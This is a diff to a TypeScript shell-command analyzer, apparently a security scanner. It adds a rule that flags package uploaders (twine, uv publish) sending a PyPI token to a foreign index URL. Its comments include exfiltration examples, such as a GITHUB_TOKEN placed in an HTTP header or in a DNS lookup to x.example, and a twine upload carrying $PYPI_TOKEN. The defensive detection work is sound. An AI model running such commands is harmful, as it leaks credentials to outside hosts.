@@ -18,6 +18,17 @@ import { type ConfigOperands, type Invocation, type OptionSpec, type ProgramSpec
 // the line would not see (options and settings that execute, downloads or decoded text fed to a
 // shell), files it writes, files it sends. Findings are data; nothing here throws on odd input.
 
+/**
+ * Whether `name args` uploads a package with an index's token (`twine upload`, `python -m twine upload`, `uv
+ * publish`): a URL it is given is where the token goes. Twine's own variables (TWINE_PASSWORD) hold whatever
+ * index the user set up, so only a token named for a service (PYPI_TOKEN) is read as belonging elsewhere.
+ */
+const uploadsPackage = (name: string, args: readonly string[]): boolean =>
+  (name === 'twine' && args[0] === 'upload') || ((name === 'python' || name === 'python3') && args[0] === '-m' && args[1] === 'twine' && args[2] === 'upload') || (name === 'uv' && args[0] === 'publish');
+const ownVariables = /\$\{?twine_|\$\{?uv_publish_/i;
+/** An uploader's words as sentSecret reads them: `--repository-url=URL` as its URL, twine's own variables left out. */
+const uploaderWords = (args: readonly string[]): string[] => args.filter((a) => !ownVariables.test(a)).map((a) => a.replace(/^--[\w-]+=/, ''));
+
 export type CommandRule =
   | 'cmd/destructive-delete'
   | 'cmd/remote-destruction'
@@ -645,9 +656,11 @@ class Analysis {
         if (leak !== undefined) this.add('cmd/credential-upload', `${name} ${clip(url)}`, `the URL carries ${leak.names} to ${leak.host}`);
       }
     }
-    if (this.table.fetchers.has(name) || lookups.has(name)) {
-      // -H "X-T: $GITHUB_TOKEN" to another host, `host "$(printenv GITHUB_TOKEN).x.example"`.
-      const sent = sentSecret(this.table, name, args, cmd.substitutions, (sub) => this.printsCredential(unwrap(this.table, sub)) !== undefined);
+    if (this.table.fetchers.has(name) || lookups.has(name) || uploadsPackage(name, args)) {
+      // -H "X-T: $GITHUB_TOKEN" to another host, `host "$(printenv GITHUB_TOKEN).x.example"`; a package
+      // uploader given another index's URL and the index's token (`twine upload --repository-url https://… -p
+      // "$PYPI_TOKEN"`): the token goes to that URL's host, which then holds the right to publish as the user.
+      const sent = sentSecret(this.table, name, uploadsPackage(name, args) ? uploaderWords(args) : args, cmd.substitutions, (sub) => this.printsCredential(unwrap(this.table, sub)) !== undefined);
       if (sent !== undefined) this.add('cmd/credential-upload', clip(argv.join(' ')), sent);
     }
     if (name === 'socat') for (const file of socatSentFiles(args)) this.upload(file, 'socat');
